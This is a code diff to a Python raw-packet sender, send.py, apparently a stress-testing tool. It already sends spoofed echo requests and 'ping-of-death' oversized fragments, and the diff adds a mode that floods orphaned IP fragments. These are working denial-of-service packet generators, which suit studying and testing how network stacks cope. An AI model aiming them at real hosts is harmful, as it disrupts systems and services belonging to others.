@@ -3,11 +3,13 @@
 """
 usage: send.py spoofed SOURCES RATE COUNT DESTINATION
        send.py ping-of-death RATE COUNT DESTINATION
+       send.py fragments RATE COUNT DESTINATION
 
-Sends what the usual tools don't. spoofed: COUNT echo requests from SOURCES
-addresses, 198.18.0.1 and up, in turn. ping-of-death: COUNT fragments of echo
-requests that would be 66600 bytes long, more than an IP packet can be. RATE
-is packets a second at most.
+Sends COUNT packets, at most RATE a second, that the usual tools don't send at
+a steady rate. spoofed: echo requests from SOURCES addresses, 198.18.0.1 and
+up, in turn. ping-of-death: fragments of echo requests that would be 66600
+bytes long, more than an IP packet can be. fragments: the second ones of
+messages of which nothing else ever comes.
 """
 import itertools
 import socket
@@ -37,17 +39,24 @@ def spoofed(sources, destination):
 
 
 def ping_of_death(destination):
-    fragments = []
+    message = []
     for offset in range(0, MESSAGE_BYTES, FRAGMENT_BYTES):
         last = offset + FRAGMENT_BYTES == MESSAGE_BYTES
         payload = ECHO_REQUEST if offset == 0 else b""
-        fragments.append(ip_header(destination, offset // 8 |
-                                   (0 if last else MORE_FRAGMENTS)) +
-                         payload.ljust(FRAGMENT_BYTES, b"\0"))
+        message.append(ip_header(destination, offset // 8 |
+                                 (0 if last else MORE_FRAGMENTS)) +
+                       payload.ljust(FRAGMENT_BYTES, b"\0"))
     for identification in itertools.cycle(range(1, 65536)):
-        for fragment in fragments:
+        for fragment in message:
             yield (fragment[:4] + identification.to_bytes(2, "big") +
                    fragment[6:])
+
+
+def fragments(destination):
+    packet = (ip_header(destination, MORE_FRAGMENTS | FRAGMENT_BYTES // 8) +
+              bytes(FRAGMENT_BYTES))
+    for identification in itertools.cycle(range(1, 65536)):
+        yield packet[:4] + identification.to_bytes(2, "big") + packet[6:]
 
 
 def send(packets, rate, count, destination):
@@ -61,13 +70,16 @@ def send(packets, rate, count, destination):
         raw.sendto(packet, (destination, 0))
 
 
+KINDS = {"ping-of-death": ping_of_death, "fragments": fragments}
+
+
 def main(arguments):
     if len(arguments) == 5 and arguments[0] == "spoofed":
         sources, rate, count = map(int, arguments[1:4])
         send(spoofed(sources, arguments[4]), rate, count, arguments[4])
-    elif len(arguments) == 4 and arguments[0] == "ping-of-death":
+    elif len(arguments) == 4 and arguments[0] in KINDS:
         rate, count = map(int, arguments[1:3])
-        send(ping_of_death(arguments[3]), rate, count, arguments[3])
+        send(KINDS[arguments[0]](arguments[3]), rate, count, arguments[3])
     else:
         sys.exit(__doc__.strip())
 
